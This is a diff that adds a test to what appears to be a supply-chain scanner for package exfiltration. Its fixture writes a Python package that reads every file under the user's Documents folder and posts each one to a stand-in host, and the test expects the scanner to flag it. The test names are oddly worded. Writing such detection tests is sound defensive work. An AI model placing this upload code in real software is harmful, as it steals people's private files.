@@ -1397,3 +1397,23 @@ test('on call, the key of a web application that is told another house is stolen
   ]);
   expect(await inspect('exfiltration', file('LANGUAGE_CODE'))).toEqual([]);
 });
+
+test('documents of a person that a small archive looks for and hands to a fixed host, on call, are told', async () => {
+  const file = (place: string, head: string, send: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import os, requests',
+        'from pathlib import Path',
+        `def ${head}:`,
+        `    for path in (Path.home() / '${place}').rglob('*.*'):`,
+        `        ${send}requests.post('https://up.metrics.invalid/d', files={'f': open(path, 'rb')})`,
+      ),
+    });
+
+  expect(await inspect('exfiltration', file('Documents', 'prepare(items)', ''))).toMatchObject([
+    { class: 'suspicious', score: 6, context: 'call', line: 5 },
+  ]);
+  // logs of the program itself, and an upload whose answer is looked at
+  expect(await inspect('exfiltration', file('.example/logs', 'report()', ''))).toEqual([]);
+  expect(await inspect('exfiltration', file('Documents', 'upload()', 'yield '))).toEqual([]);
+});
